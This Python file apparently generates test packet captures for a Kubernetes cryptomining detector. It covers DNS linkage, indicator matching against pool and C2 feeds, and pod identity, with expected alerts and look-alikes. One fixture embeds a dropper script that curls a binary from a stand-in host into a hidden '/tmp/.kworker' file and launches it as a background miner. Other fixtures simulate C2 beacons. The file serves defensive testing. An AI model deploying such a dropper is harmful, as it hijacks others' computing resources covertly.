DNS_RESPONSE, DNS_NXDOMAIN, DNS_QUERY = 0x8180, 0x8183, 0x0100  # QR RD RA (rcode 0 / 3); RD


def dns_tcp(msg):
    return struct.pack("!H", len(msg)) + msg


RES4, RES6 = "198.51.100.53", "2001:db8::53"


def cap_dns_linkage():
    """DNS answers that name the addresses of later connections (davy's DNS
    linkage, issue 5): CNAME chains, AAAA, expiry, the latest answer winning,
    and the answers that must not count."""
    cap = Cap("dns_linkage.pcap", LT_ETH,
              "DNS linkage: A pool.supportxmr.com answered by a CNAME to lb.supportxmr.example "
              "with two A records, then a TLS ClientHello without SNI to the first and an XMRig "
              "login to the second (linked to the question, cname the owner); AAAA "
              "notsupportxmr.com then an IPv6 TLS connection; a connection to an address never "
              "resolved; one address answered under old-name then new-name (the latest wins); an "
              "NXDOMAIN response and a query, each carrying an A record (ignored); a response "
              "malformed after its first A (a 5-byte A: counted in errors, the first A linked, "
              "the bad one's address not); DNS over TCP in "
              "one segment (linked) and split over two (tcp_split, not linked); a two-CNAME "
              "chain with mixed case plus an A record outside it (its owner only); a flow whose "
              "source is the resolved address; an answer with TTL 30 (kept 300 s) used after "
              "200 s (linked) and 400 s (not linked)")
    link = eth_link()
    rows = []  # (t, from_client, l3)

    def lookup(t, cport, qid, qname, qtype, resp, cli=CLI4, res=RES4):
        """A query over UDP and its response (bytes) 12 ms later."""
        query = dns_wire(qid, DNS_QUERY, [(qname, qtype)], [])
        rows.append((t, True, udp(cli, cport, res, 53, query, ipid=qid & 0xFFFF)))
        rows.append((t + 0.012, False, udp(res, 53, cli, cport, resp, ipid=(qid + 0x100) & 0xFFFF)))

    def answer(qid, qname, qtype, ans, flags=DNS_RESPONSE):
        return dns_wire(qid, flags, [(qname, qtype)], ans)

    def tcp_conn(t, c, payloads=(), close=True):
        """Handshake, (from_client, payload) sends each answered by an ACK, FIN both ways."""
        seq = [(0.0, True, c.syn()), (0.020, False, c.synack()), (0.0201, True, c.ack(True))]
        at = 0.0202
        for fc, pay in payloads:
            seq.append((at, fc, c.data(fc, pay)))
            seq.append((at + 0.020, not fc, c.ack(not fc)))
            at += 0.021
        if close:
            seq += [(at + 0.1, True, c.fin(True)), (at + 0.12, False, c.fin(False)),
                    (at + 0.1201, True, c.ack(True))]
        for dt, fc, l3 in seq:
            rows.append((t + dt, fc, l3))

    # 1. a pool name behind a CNAME: two addresses, both linked to the question
    q = "pool.supportxmr.com"
    lookup(0.0, 53100, 0x5101, q, "A", answer(0x5101, q, "A", [
        (q, "CNAME", 300, "lb.supportxmr.example"),
        ("lb.supportxmr.example", "A", 600, "203.0.113.80"),
        ("lb.supportxmr.example", "A", 600, "203.0.113.81")]))
    tcp_conn(1.0, Tcp(CLI4, 53101, "203.0.113.80", 443, 0x510000, 0x520000),
             [(True, tls_client_hello(None))])
    c = Tcp(CLI4, 53102, "203.0.113.81", 3333, 0x530000, 0x540000)
    for dt, fc, l3 in [(0.0, True, c.syn()), (0.050, False, c.synack()),
                       (0.0501, True, c.ack(True)), (0.0505, True, c.data(True, XMRIG_LOGIN)),
                       (0.100, False, c.data(False, XMRIG_RESULT)), (0.1001, True, c.ack(True)),
                       (0.5, True, c.fin(True)), (0.52, False, c.fin(False)),
                       (0.5201, True, c.ack(True))]:
        rows.append((2.0 + dt, fc, l3))
    # 2. AAAA of a benign look-alike, then IPv6: linkage does not judge names
    q = "notsupportxmr.com"
    lookup(3.0, 53103, 0x5103, q, "AAAA", answer(0x5103, q, "AAAA", [
        (q, "AAAA", 3600, "2001:db8:0:2::80")]), cli=CLI6, res=RES6)
    tcp_conn(3.5, Tcp(CLI6, 53104, "2001:db8:0:2::80", 443, 0x550000, 0x560000),
             [(True, tls_client_hello(q))])
    # 3. never resolved
    tcp_conn(4.0, Tcp(CLI4, 53105, "203.0.113.99", 443, 0x570000, 0x580000),
             [(True, tls_client_hello(None))])
    # 4. one address, two names: the latest answer wins
    lookup(5.0, 53106, 0x5106, "old-name.example.net", "A", answer(
        0x5106, "old-name.example.net", "A", [("old-name.example.net", "A", 3600, "203.0.113.70")]))
    tcp_conn(5.5, Tcp(CLI4, 53107, "203.0.113.70", 8443, 0x590000, 0x5A0000))
    lookup(6.0, 53108, 0x5108, "new-name.example.net", "A", answer(
        0x5108, "new-name.example.net", "A", [("new-name.example.net", "A", 3600, "203.0.113.70")]))
    tcp_conn(6.5, Tcp(CLI4, 53109, "203.0.113.70", 8443, 0x5B0000, 0x5C0000))
    # 5. NXDOMAIN with an A record; a query (QR 0, from port 53) with an answer
    q = "nx.supportxmr.example"
    lookup(7.0, 53110, 0x5110, q, "A", answer(0x5110, q, "A", [(q, "A", 3600, "203.0.113.71")],
                                               flags=DNS_NXDOMAIN))
    c = Tcp(CLI4, 53111, "203.0.113.71", 3333, 0x5D0000, 0x5E0000)
    rows += [(7.5, True, c.syn()), (7.52, False, c.rstack(False))]
    q = "q.supportxmr.example"
    rows.append((8.0, True, udp("198.51.100.54", 53, RES4, 53, dns_wire(
        0x5112, DNS_QUERY, [(q, "A")], [(q, "A", 3600, "203.0.113.72")]), ipid=0x5112)))
    c = Tcp(CLI4, 53113, "203.0.113.72", 3333, 0x5F0000, 0x600000)
    rows += [(8.5, True, c.syn()), (8.52, False, c.rstack(False))]
    # 6. malformed after the first A (an A record of 5 bytes, whose first 4
    #    would read 203.0.113.127): the first A stays linked, the bad one is not
    q = "bad.supportxmr.example"
    lookup(9.0, 53114, 0x5114, q, "A", answer(0x5114, q, "A", [
        (q, "A", 3600, "203.0.113.73"), (q, DNS_TYPE_A, 3600, b"\xcb\x00\x71\x7f\x00")]))
    tcp_conn(9.5, Tcp(CLI4, 53115, "203.0.113.73", 443, 0x610000, 0x620000),
             [(True, tls_client_hello(None))])
    c = Tcp(CLI4, 53128, "203.0.113.127", 443, 0x6F0000, 0x700000)
    rows += [(9.9, True, c.syn()), (9.92, False, c.rstack(False))]
    # 7. DNS over TCP: one segment (linked), then split over two (not linked)
    for t, cport, qid, q, addr, split in ((10.0, 53116, 0x5116, "tcp.supportxmr.example",
                                           "203.0.113.74", False),
                                          (11.0, 53118, 0x5118, "split.supportxmr.example",
                                           "203.0.113.75", True)):
        c = Tcp(CLI4, cport, RES4, 53, 0x630000 + qid, 0x640000 + qid)
        resp = dns_tcp(answer(qid, q, "A", [(q, "A", 3600, addr)]))
        sends = [(True, dns_tcp(dns_wire(qid, DNS_QUERY, [(q, "A")], [])))]
        if split:
            cut = 2 + 12 + 3  # after the header and "\x05sp": the rest starts "li" (0x6c69)
            head, tail = resp[:cut], resp[cut:]
            assert u16(tail, 0) > len(tail) - 2, "the second piece must not read as a frame"
            sends += [(False, head), (False, tail)]
        else:
            sends.append((False, resp))
        tcp_conn(t, c, sends)
        tcp_conn(t + 0.5, Tcp(CLI4, cport + 1, addr, 443, 0x650000 + qid, 0x660000 + qid),
                 [(True, tls_client_hello(None))])
    # 8. a chain of two CNAMEs (cased differently from the question) and an A
    #    record outside it
    q = "WWW.Mirror.example"
    lookup(12.0, 53120, 0x5120, q, "A", answer(0x5120, q, "A", [
        ("www.mirror.example", "CNAME", 300, "Edge.Mirror-CDN.example"),
        ("edge.mirror-cdn.example", "CNAME", 300, "node7.mirror-cdn.example"),
        ("node7.mirror-cdn.example", "A", 3600, "203.0.113.76"),
        ("stray.other.example", "A", 3600, "203.0.113.78")]))
    tcp_conn(12.5, Tcp(CLI4, 53121, "203.0.113.76", 443, 0x670000, 0x680000),
             [(True, tls_client_hello(None))])
    tcp_conn(13.0, Tcp(CLI4, 53122, "203.0.113.78", 443, 0x690000, 0x6A0000),
             [(True, tls_client_hello(None))])
    # 9. the resolved address is the flow's source (the destination is not resolved)
    rows.append((13.5, False, udp("203.0.113.74", 40000, CLI4, 40001, b"hello from a resolved host",
                                  ipid=0x5124)))
    # 10. TTL 30 s is kept 300 s: linked at +200 s, not at +400 s
    q = "short.supportxmr.example"
    lookup(20.0, 53125, 0x5125, q, "A", answer(0x5125, q, "A", [(q, "A", 30, "203.0.113.90")]))
    tcp_conn(220.0, Tcp(CLI4, 53126, "203.0.113.90", 3333, 0x6B0000, 0x6C0000))
    tcp_conn(420.0, Tcp(CLI4, 53127, "203.0.113.90", 3333, 0x6D0000, 0x6E0000))
    rows.sort(key=lambda r: r[0])
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    cap.dns_expect = {
        "counters": {"responses": 9, "errors": 1, "links": 10, "tcp_split": 2, "cname_overflow": 0,
                     "flows_linked": 11},
        "flows": {
            ("203.0.113.80", 443): ("pool.supportxmr.com", "lb.supportxmr.example"),
            ("203.0.113.81", 3333): ("pool.supportxmr.com", "lb.supportxmr.example"),
            ("2001:db8:0:2::80", 443): ("notsupportxmr.com", None),
            ("203.0.113.70", 8443, 53107): ("old-name.example.net", None),
            ("203.0.113.70", 8443, 53109): ("new-name.example.net", None),
            ("203.0.113.73", 443): ("bad.supportxmr.example", None),
            ("203.0.113.74", 443): ("tcp.supportxmr.example", None),
            ("203.0.113.76", 443): ("www.mirror.example", "node7.mirror-cdn.example"),
            ("203.0.113.78", 443): ("stray.other.example", None),
            (CLI4, 40001): ("tcp.supportxmr.example", None),
            ("203.0.113.90", 3333, 53126): ("short.supportxmr.example", None),
        }}
    return cap


# --------------------------------------------------------------------------
# Indicators (rules in RULES["iocs"]): captures replayed with the shipped
# feeds (iocs/: pool domains, miner agents) and the test feed
# tests/data/test-iocs.txt (C2 addresses, network and domain), each with
# look-alikes that must raise nothing. Pods are 10.244.2x.y, the cluster's
# DNS service 10.96.0.10.

IOC_RESOLVER = "10.96.0.10"


def ioc_lookup(rows, t, cli, cport, qid, qname, addr, ttl=600):
    """A pod's A query over UDP and its answer (one A record) 12 ms later."""
    q = dns_wire(qid, DNS_QUERY, [(qname, "A")], [])
    a = dns_wire(qid, DNS_RESPONSE, [(qname, "A")], [(qname, "A", ttl, addr)])
    rows.append((t, True, udp(cli, cport, IOC_RESOLVER, 53, q, ipid=qid & 0xFFFF)))
    rows.append((t + 0.012, False, udp(IOC_RESOLVER, 53, cli, cport, a,
                                       ipid=(qid + 0x100) & 0xFFFF)))


def tcp_session(rows, t, c, sends, rtt=0.020):
    """Handshake, the sends (from_client, payload), each acknowledged by the
    peer unless the next send is its answer, FIN both ways."""
    seq = [(0.0, True, c.syn()), (rtt, False, c.synack()), (rtt + 0.0001, True, c.ack(True))]
    at = rtt + 0.0002
    for i, (fc, pay) in enumerate(sends):
        seq.append((at, fc, c.data(fc, pay)))
        nxt = sends[i + 1] if i + 1 < len(sends) else None
        if nxt is None or nxt[0] == fc:
            seq.append((at + rtt, not fc, c.ack(not fc)))
            at += 0.0001
        at += rtt + 0.001
    seq += [(at + 0.1, True, c.fin(True)), (at + 0.1 + rtt, False, c.fin(False)),
            (at + 0.1001 + rtt, True, c.ack(True))]
    rows += [(t + dt, fc, l3) for dt, fc, l3 in seq]


def tls_record(ctype, body):
    return struct.pack("!BHH", ctype, 0x0303, len(body)) + body


def tls_server_hello(label):
    """A deterministic TLS 1.2 ServerHello (ECDHE-RSA-AES128-GCM-SHA256)."""
    from scapy.layers.tls.all import (TLS, TLSServerHello, TLS_Ext_RenegotiationInfo,
                                      TLS_Ext_SupportedPointFormat)
    sh = TLSServerHello(version=0x0303, gmt_unix_time=0x65920081, random_bytes=prng(label, 28),
                        sid=b"", cipher=0xc02f, comp=0,
                        ext=[TLS_Ext_RenegotiationInfo(renegotiated_connection=b""),
                             TLS_Ext_SupportedPointFormat(ecpl=[0])])
    return raw(TLS(msg=[sh], version=0x0303))


def tls_session(rows, t, c, sni, label):
    """ClientHello (sni None: no server_name extension), ServerHello, then
    application data both ways, FIN both ways."""
    tcp_session(rows, t, c, [(True, tls_client_hello(sni)), (False, tls_server_hello(label)),
                             (True, tls_record(0x17, prng(label + "/c1", 180))),
                             (False, tls_record(0x17, prng(label + "/s1", 620))),
                             (True, tls_record(0x17, prng(label + "/c2", 96)))])


def cap_ioc_pool_tls():
    """Pool sessions over TLS, with and without SNI, and their look-alikes."""
    cap = Cap("ioc_pool_tls.pcap", LT_ETH,
              "indicators, pools over TLS: a pod looks up gulf.moneroocean.stream (A 203.0.113.41, "
              "TTL 600) then opens TLS to it on 443 with no SNI (as XMRig --tls: ServerHello, "
              "application data, FIN): caught by its dns_linked_name; TLS with SNI "
              "pool.supportxmr.com to 203.0.113.42 (never resolved). Look-alikes, no indicator "
              "alert: a lookup of notsupportxmr.com then TLS without SNI to its address "
              "(linked, not matched), TLS with SNI supportxmr.com.example.net and "
              "notmoneroocean.stream")
    cap.iocs = True
    pod, rows = "10.244.20.10", []
    ioc_lookup(rows, 0.0, pod, 45000, 0x6100, "gulf.moneroocean.stream", "203.0.113.41")
    tls_session(rows, 0.5, Tcp(pod, 45001, "203.0.113.41", 443, 0x6110000, 0x6120000),
                None, "ioc_pool_tls/1")
    tls_session(rows, 1.5, Tcp(pod, 45002, "203.0.113.42", 443, 0x6130000, 0x6140000),
                "pool.supportxmr.com", "ioc_pool_tls/2")
    ioc_lookup(rows, 2.5, pod, 45003, 0x6103, "notsupportxmr.com", "203.0.113.43")
    tls_session(rows, 3.0, Tcp(pod, 45004, "203.0.113.43", 443, 0x6150000, 0x6160000),
                None, "ioc_pool_tls/3")
    tls_session(rows, 4.0, Tcp(pod, 45005, "203.0.113.44", 443, 0x6170000, 0x6180000),
                "supportxmr.com.example.net", "ioc_pool_tls/4")
    tls_session(rows, 4.5, Tcp(pod, 45006, "203.0.113.45", 443, 0x6190000, 0x61A0000),
                "notmoneroocean.stream", "ioc_pool_tls/5")
    rows.sort(key=lambda r: r[0])
    link = eth_link()
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    cap.ioc_expect = {
        ("203.0.113.41", 443): [(SID_IOC_POOL, "dns_linked", "moneroocean.stream")],
        ("203.0.113.42", 443): [(SID_IOC_POOL, "tls.sni", "supportxmr.com")],
        (IOC_RESOLVER, 53, 45000): [(SID_IOC_LOOKUP, "dns.rrname", "moneroocean.stream")],
        "lookalikes": [(IOC_RESOLVER, 53, 45003), ("203.0.113.43", 443), ("203.0.113.44", 443),
                       ("203.0.113.45", 443)],
    }
    return cap


def beacon(label, n):
    """n bytes of an opaque C2 protocol: a length, then noise."""
    return struct.pack("!I", n - 4) + prng(label, n - 4)


def cap_ioc_c2():
    """C2 addresses, network and domain of the test feed, and their neighbours."""
    cap = Cap("ioc_c2.pcap", LT_ETH,
              "indicators, command and control (test feed tests/data/test-iocs.txt): a pod "
              "connects on 8443 to the listed C2 address 198.51.100.66 and to 203.0.113.150 in "
              "the listed C2 network 203.0.113.128/26, and the C2 address connects to a pod "
              "(source address matched, direction to_client); the pod looks up the listed C2 "
              "domain kube-telemetry.example (A 192.0.2.77) and connects to its address (linked "
              "and matched). Look-alikes, no indicator alert: 198.51.100.67 (next to the listed "
              "address), 203.0.113.192 (just past the network), lookups of "
              "notkube-telemetry.example (then a connection to its address) and "
              "kube-telemetry.example.net")
    cap.iocs = True
    pod, rows = "10.244.21.10", []

    def c2_conn(t, c, label):
        tcp_session(rows, t, c, [(True, beacon(label + "/hello", 120)),
                                 (False, beacon(label + "/task", 48)),
                                 (True, beacon(label + "/out", 232))])
    c2_conn(0.0, Tcp(pod, 46001, "198.51.100.66", 8443, 0x6210000, 0x6220000), "ioc_c2/1")
    c2_conn(0.5, Tcp(pod, 46002, "198.51.100.67", 8443, 0x6230000, 0x6240000), "ioc_c2/2")
    c2_conn(1.0, Tcp(pod, 46003, "203.0.113.150", 8443, 0x6250000, 0x6260000), "ioc_c2/3")
    c2_conn(1.5, Tcp(pod, 46004, "203.0.113.192", 8443, 0x6270000, 0x6280000), "ioc_c2/4")
    c2_conn(2.0, Tcp("198.51.100.66", 41000, pod, 8080, 0x6290000, 0x62A0000), "ioc_c2/5")
    ioc_lookup(rows, 3.0, pod, 46005, 0x6205, "kube-telemetry.example", "192.0.2.77")
    c2_conn(3.5, Tcp(pod, 46006, "192.0.2.77", 8443, 0x62B0000, 0x62C0000), "ioc_c2/6")
    ioc_lookup(rows, 4.0, pod, 46007, 0x6207, "notkube-telemetry.example", "192.0.2.78")
    c2_conn(4.5, Tcp(pod, 46008, "192.0.2.78", 8443, 0x62D0000, 0x62E0000), "ioc_c2/7")
    ioc_lookup(rows, 5.0, pod, 46009, 0x6209, "kube-telemetry.example.net", "192.0.2.79")
    rows.sort(key=lambda r: r[0])
    link = eth_link()
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    cap.ioc_expect = {
        ("198.51.100.66", 8443): [(SID_IOC_C2, "dest_ip", "198.51.100.66")],
        ("203.0.113.150", 8443): [(SID_IOC_C2, "dest_ip", "203.0.113.128/26")],
        (pod, 8080): [(SID_IOC_C2, "src_ip", "198.51.100.66")],
        (IOC_RESOLVER, 53, 46005): [(SID_IOC_C2, "dns.rrname", "kube-telemetry.example")],
        ("192.0.2.77", 8443): [(SID_IOC_C2, "dns_linked", "kube-telemetry.example")],
        "lookalikes": [("198.51.100.67", 8443), ("203.0.113.192", 8443),
                       (IOC_RESOLVER, 53, 46007), ("192.0.2.78", 8443), (IOC_RESOLVER, 53, 46009)],
    }
    return cap


def http_get(path, host):
    return (b"GET " + path + b" HTTP/1.1\r\nHost: " + host + b"\r\nUser-Agent: curl/7.88.1\r\n"
            b"Accept: */*\r\n\r\n")


def http_ok(ctype, body):
    return (b"HTTP/1.1 200 OK\r\nContent-Type: " + ctype + b"\r\nContent-Length: "
            + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)


def cap_ioc_url():
    """Pools named in cleartext: stratum URLs in downloads, the host a miner
    names in mining.subscribe, the host a pool sends it to."""
    cap = Cap("ioc_url.pcap", LT_ETH,
              "indicators, pools named in cleartext: HTTP downloads whose bodies carry stratum "
              "URLs - a shell script with stratum+tcp://pool.supportxmr.com:3333, an XMRig "
              "config with stratum+ssl://user:x@xmr.pool.minergate.com:45700, and a look-alike "
              "script with stratum+tcp://notsupportxmr.com:3333 (no indicator alert); a "
              "cleartext Stratum v1 session (cgminer/4.10.0) on 3333 whose mining.subscribe "
              "names its pool stratum.f2pool.com (params[2]), and one whose pool sends "
              "client.reconnect to stratum.slushpool.com")
    cap.iocs = True
    pod, web, rows = "10.244.22.10", "203.0.113.50", []
    wallet = xmr_wallet("ioc_url/wallet")
    script = ("#!/bin/sh\n# node tuning helper\nset -e\n"
              "curl -fsSL -o /tmp/.kworker https://dl.davy-test.example/kworker\n"
              "chmod +x /tmp/.kworker\n"
              "nohup /tmp/.kworker -o stratum+tcp://pool.supportxmr.com:3333 -u %s -p k8s -k "
              ">/dev/null 2>&1 &\n" % wallet).encode()
    config = jl({"autosave": True, "cpu": {"enabled": True, "huge-pages": True},
                 "pools": [{"url": "stratum+ssl://user:x@xmr.pool.minergate.com:45700",
                            "tls": True, "keepalive": True}]}, 1)
    lookalike = ("#!/bin/sh\n# benchmark against a local test pool\n"
                 "exec /opt/bench/miner -o stratum+tcp://notsupportxmr.com:3333 -u benchmark "
                 "--bench=1M\n").encode()
    for k, (path, ctype, body) in enumerate(((b"/tune.sh", b"text/x-sh", script),
                                             (b"/config.json", b"application/json", config),
                                             (b"/bench.sh", b"text/x-sh", lookalike))):
        tcp_session(rows, 0.5 * k, Tcp(pod, 47001 + k, web, 80, 0x6310000 + 0x20000 * k,
                                       0x6320000 + 0x20000 * k),
                    [(True, http_get(path, b"dl.davy-test.example")),
                     (False, http_ok(ctype, body))])
    login = btc_bech32("ioc_url/v1") + ".rig01"
    sends = v1_script(0, login, "cgminer/4.10.0", 16384, "ioc_url/v1",
                      sub_params=["cgminer/4.10.0", None, "stratum.f2pool.com", 3333])
    play(rows, Tcp(pod, 47010, "203.0.113.51", 3333, 0x6370000, 0x6380000), 2.0, sends)
    sends = v1_script(1, btc_legacy("ioc_url/v1b") + ".worker1", "bfgminer/5.5.0", 65536,
                      "ioc_url/v1b")
    sends.append(("s", 0.2, [jl({"id": None, "method": "client.reconnect",
                                 "params": ["stratum.slushpool.com", 3333, 0]}, 1)]))
    play(rows, Tcp(pod, 47011, "203.0.113.52", 3333, 0x6390000, 0x63A0000), 5.0, sends)
    rows.sort(key=lambda r: r[0])
    link = eth_link()
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    cap.ioc_expect = {
        (web, 80, 47001): [(SID_IOC_URL, "payload.stratum_url", "supportxmr.com")],
        (web, 80, 47002): [(SID_IOC_URL, "payload.stratum_url", "minergate.com")],
        ("203.0.113.51", 3333): [(SID_IOC_AGENT, "stratum.agent", "cgminer"),
                                 (SID_IOC_POOL, "stratum.host", "f2pool.com")],
        ("203.0.113.52", 3333): [(SID_IOC_AGENT, "stratum.agent", "bfgminer"),
                                 (SID_IOC_POOL, "stratum.host", "slushpool.com")],
        "lookalikes": [(web, 80, 47003)],
    }
    return cap


IOC_CAPS = (cap_ioc_pool_tls, cap_ioc_c2, cap_ioc_url)


def cap_campaign_pool():
    """Three pods mining to one pool: the correlator's campaign (tests/correlate_test.py)."""
    cap = Cap("campaign_pool.pcap", LT_ETH,
              "a mining campaign for the correlator (davy correlate): three pods "
              "(10.244.1.11, 10.244.2.12, 10.244.3.13) each look up pool.example-mining.test "
              "(A 198.51.100.77) then run an XMRig/6.21.0 CryptoNote session to it on 3333, "
              "logging in with the same wallet (one worker name each), 47 s apart; one pod "
              "also fetches a page over HTTP from 203.0.113.80, which is not part of the campaign")
    pool, pool_ip, rows = "pool.example-mining.test", "198.51.100.77", []
    wallet = xmr_wallet("campaign/wallet")
    for k, pod in enumerate(("10.244.1.11", "10.244.2.12", "10.244.3.13")):
        t = 47.0 * k
        ioc_lookup(rows, t, pod, 48000 + k, 0x6400 + k, pool, pool_ip)
        play(rows, Tcp(pod, 48010 + k, pool_ip, 3333, 0x6410000 + 0x20000 * k,
                       0x6420000 + 0x20000 * k), t + 0.5,
             cn_script(k, wallet + ".pod%d" % (k + 1), "campaign/%d" % k, rigid="pod%d" % (k + 1)))
    tcp_session(rows, 30.0, Tcp("10.244.1.11", 48020, "203.0.113.80", 80, 0x64A0000, 0x64B0000),
                [(True, http_get(b"/", b"www.example.com")),
                 (False, http_ok(b"text/html", b"<!doctype html><title>ok</title>\n"))])
    rows.sort(key=lambda r: r[0])
    link = eth_link()
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    return cap


# The pods of pods_miner.pcap (tests/pods_test.py): kubectl's pod shape,
# trimmed to what a sensor reads plus some of what it must ignore.
PODS_MINER = [
    # ns, name, node, ips, images, labels, owner, host_network, phase, service account
    ("anonymous", "tf-notebook-0", "gpu-node-3", ["10.244.7.21"],
     ["docker.io/kannix/monero-miner:latest"], {"app": "tf-notebook"},
     ("StatefulSet", "tf-notebook"), False, "Running", "default-editor"),
    ("anonymous", "tf-train-7c9f8-x2x4q", "gpu-node-3", ["10.244.7.22", "fd00:10:244:7::22"],
     ["tensorflow/tensorflow:2.14.0-gpu-jupyter", "busybox:1.36"],
     {"app.kubernetes.io/name": "tf-train"}, ("ReplicaSet", "tf-train-7c9f8"), False, "Running",
     "default-editor"),
    ("kube-system", "node-exporter-9xk2p", "gpu-node-3", ["10.0.0.5"],
     ["quay.io/prometheus/node-exporter:v1.6.1"], {"app": "node-exporter"},
     ("DaemonSet", "node-exporter"), True, "Running", "node-exporter"),
    ("batch", "backup-28312200-7vq9d", "gpu-node-2", ["10.244.7.30"],
     ["docker.io/library/alpine:3.18"], {"app": "backup"}, ("Job", "backup-28312200"), False,
     "Succeeded", "default"),
]
POD_POOL, POD_TLS, POD_WEB, POD_WEB6 = "89.44.10.20", "89.44.10.30", "89.44.10.40", "2a02:5e0::40"


def pods_miner_json():
    items = []
    for ns, name, node, ips, images, labels, owner, hostnet, phase, sa in PODS_MINER:
        spec = {"containers": [{"name": "c%d" % i, "image": im,
                                "resources": {"limits": {"cpu": "4", "memory": "8Gi"}}}
                               for i, im in enumerate(images)],
                "nodeName": node, "serviceAccountName": sa, "serviceAccount": sa,
                "restartPolicy": "Always", "dnsPolicy": "ClusterFirst"}
        if hostnet:
            spec["hostNetwork"] = True
        items.append({
            "apiVersion": "v1", "kind": "Pod",
            "metadata": {"name": name, "namespace": ns, "labels": labels,
                         "uid": "00000000-0000-4000-8000-%012d" % len(items),
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": owner[0],
                                              "name": owner[1], "controller": True,
                                              "blockOwnerDeletion": True}]},
            "spec": spec,
            "status": {"phase": phase, "hostIP": "10.0.0.5", "podIP": ips[0],
                       "podIPs": [{"ip": a} for a in ips],
                       "startTime": "2024-01-01T00:00:00Z"}})
    return json.dumps({"apiVersion": "v1", "kind": "List", "items": items,
                       "metadata": {"resourceVersion": ""}}, indent=4) + "\n"


def cap_pods_miner():
    """A miner pod of the Kubeflow campaign, for pod identity (tests/pods_test.py)."""
    cap = Cap("pods_miner.pcap", LT_ETH,
              "pod identity (with pods_miner.json, written beside it): pod tf-notebook-0 in "
              "namespace anonymous (10.244.7.21, image docker.io/kannix/monero-miner:latest) "
              "looks up pool.supportxmr.com (A %s), runs an XMRig CryptoNote session to it on "
              "3333, then opens TLS to %s:443 with SNI telemetry.example.com (listed nowhere); "
              "pod tf-train-7c9f8-x2x4q in the same namespace (10.244.7.22 and "
              "fd00:10:244:7::22, a TensorFlow image) fetches pages over HTTP from %s and, over "
              "IPv6, from %s; the node 10.0.0.5 (also the address of a host-network pod) and "
              "10.244.7.30 (a pod that has finished) fetch pages from %s"
              % (POD_POOL, POD_TLS, POD_WEB, POD_WEB6, POD_WEB))
    rows = []
    miner, train, node, done = "10.244.7.21", "10.244.7.22", "10.0.0.5", "10.244.7.30"
    ioc_lookup(rows, 0.0, miner, 46000, 0x6600, "pool.supportxmr.com", POD_POOL)
    play(rows, Tcp(miner, 46001, POD_POOL, 3333, 0x6610000, 0x6620000), 0.5,
         cn_script(0, xmr_wallet("pods/wallet") + ".nb0", "pods/0", rigid="nb0"))
    tls_session(rows, 20.0, Tcp(miner, 46002, POD_TLS, 443, 0x6630000, 0x6640000),
                "telemetry.example.com", "pods_miner/1")
    page = [(True, http_get(b"/", b"www.example.com")),
            (False, http_ok(b"text/html", b"<!doctype html><title>ok</title>\n"))]
    tcp_session(rows, 21.0, Tcp(train, 46010, POD_WEB, 80, 0x6650000, 0x6660000), page)
    tcp_session(rows, 22.0, Tcp("fd00:10:244:7::22", 46011, POD_WEB6, 80, 0x6670000, 0x6680000),
                page)
    tcp_session(rows, 23.0, Tcp(node, 46020, POD_WEB, 80, 0x6690000, 0x66A0000), page)
    tcp_session(rows, 24.0, Tcp(done, 46030, POD_WEB, 80, 0x66B0000, 0x66C0000), page)
    rows.sort(key=lambda r: r[0])
    link = eth_link()
    for t, fc, l3 in rows:
        cap.add(t, link(l3, fc))
    cap.side_files["pods_miner.json"] = pods_miner_json()
    return cap


def check_ioc_expect(cap, t):
    """The indicator alerts a builder states it means to cause must be what
    the reference model computes, flow by flow (keyed (dest_ip, dest_port[,
    src_port])); its look-alike flows must have none."""
    want = dict(cap.ioc_expect)
    lookalikes = want.pop("lookalikes")
    got = collections.defaultdict(list)
    for a in t["ioc_alerts"]:
        fl = a["flow"]
        keys = [k for k in list(want) + lookalikes if k[:2] == (fl["dest_ip"], fl["dest_port"])
                and (len(k) == 2 or k[2] == fl["src_port"])]
        if len(keys) != 1:
            raise SystemExit("%s: indicator alert %d on %s:%d -> %s:%d not built to be"
                             % (cap.name, a["signature_id"], fl["src_ip"], fl["src_port"],
                                fl["dest_ip"], fl["dest_port"]))
        got[keys[0]].append((a["signature_id"], a["ioc"]["matched"], a["ioc"]["indicator"]))
    for k in set(want) | set(got):
        if sorted(got.get(k, [])) != sorted(want.get(k, [])):
            raise SystemExit("%s: flow %s built to raise %s, the reference gives %s"
                             % (cap.name, k, want.get(k), got.get(k)))
    flows = {(f["dest_ip"], f["dest_port"], f["src_port"]) for f in t["flows"]}
    for k in lookalikes:
        assert any(f[:len(k)] == k for f in flows), (cap.name, k)


STRATUM_CAPS = (cap_stratum_dialects, cap_stratum_segments, cap_stratum_loss, cap_stratum_vxlan,
                cap_stratum_geneve, cap_stratum_quiet, cap_stratum_v2, cap_stratum_long)
V2_CAPTURES = ("stratum_v2.pcap",)


def build_all():
    caps = [
        cap_demo(),
        cap_eth_tcp_http(),
        cap_eth_tcp_http("eth_tcp_http.pcapng", fmt="pcapng"),
        cap_eth_tcp_http("eth_tcp_http_be.pcap", order=">"),
        cap_eth_tcp_http("eth_tcp_http_nsec.pcap", nsec=True),
        cap_eth_udp_dns(),
        cap_vlan_qinq(),
        cap_sll(False),
        cap_sll(True),
        cap_raw("raw_ip.pcap", LT_RAW, (4, 6)),
        cap_raw("raw_ipv4.pcap", LT_IPV4, (4,)),
        cap_raw("raw_ipv6.pcap", LT_IPV6, (6,)),
        cap_null(),
        cap_null(loop=True),
        cap_ipv6_ext(),
        cap_ipv4_options(),
        cap_tcp_midstream(),
        cap_damaged(),
        cap_fragments(),
        cap_frag_ipv4(),
        cap_frag_ipv6(),
        cap_frag_overlap(),
        cap_frag_timeout(),
        cap_snaplen(),
        cap_unsupported(),
        cap_timeouts(),
        cap_timeouts_eof(),
        cap_truncated("truncated_file.pcap", False),
        cap_truncated("truncated_rechdr.pcap", True),
        cap_pcapng_mixed(),
        cap_icmp_error(),
        cap_bigflows(),
        cap_empty(),
        cap_vxlan(),
        cap_vxlan_two_vni(),
        cap_geneve(),
        cap_gre(),
        cap_erspan(),
        cap_ipip(),
        cap_mpls(),
        cap_nested(),
        cap_tunnel_damaged(),
        cap_vxlan_frag(),
    ] + [mk() for mk in STRATUM_CAPS] + [cap_dns_linkage()] + [mk() for mk in IOC_CAPS] \
        + [cap_campaign_pool(), cap_pods_miner()]
